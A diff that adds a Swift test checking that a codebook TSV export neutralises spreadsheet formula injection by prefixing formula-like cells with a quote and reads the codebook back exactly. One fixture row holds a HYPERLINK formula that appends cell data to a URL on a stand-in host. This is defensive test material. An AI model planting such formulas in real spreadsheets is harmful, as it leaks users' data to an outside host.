@@ -29,6 +29,28 @@ struct CodebookTSVTests {
         book.codes.map { Row(path: book.path(of: $0.id)!, operationalisation: $0.operationalisation, example: $0.example, rules: $0.rules, color: $0.color) }
     }
 
+    // MARK: Spreadsheet safety
+
+    /// A codebook TSV opens in Excel or LibreOffice like a CSV: a definition beginning with `=` would run as a
+    /// formula. The export carries the usual leading `'`; reading takes it off, so the codebook reads back exactly.
+    @Test func tsvExportIsSpreadsheetSafeAndReadsBackExactly() throws {
+        let text = """
+        code\toperationalisation\texample\trules
+        -Hoofdcode\t=HYPERLINK("http://x?"&A2,"klik")\t@meneer [naam] zei het\t+ één regel | 'nog een
+        -Hoofdcode > Sub\t'=al met quote\tgewoon\t
+        """
+        let book = try read(text)
+        let written = CodebookTSV.write(book)
+        let cells = written.split(separator: "\n").dropFirst().flatMap { $0.split(separator: "\t", omittingEmptySubsequences: false) }
+        for cell in cells {
+            #expect(!["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "formula-like cell \(cell)")
+        }
+        #expect(rows(try read(written)) == rows(book))
+        #expect(rows(book).first?.operationalisation.hasPrefix("=HYPERLINK") == true)
+        // --raw-csv: cells exactly as they are.
+        #expect(CodebookTSV.write(book, cells: .raw).contains("\n-Hoofdcode\t=HYPERLINK"))
+    }
+
     // MARK: The CKM codebook
 
     @Test func ckmHas149CodesAnd12MainCodes() throws {
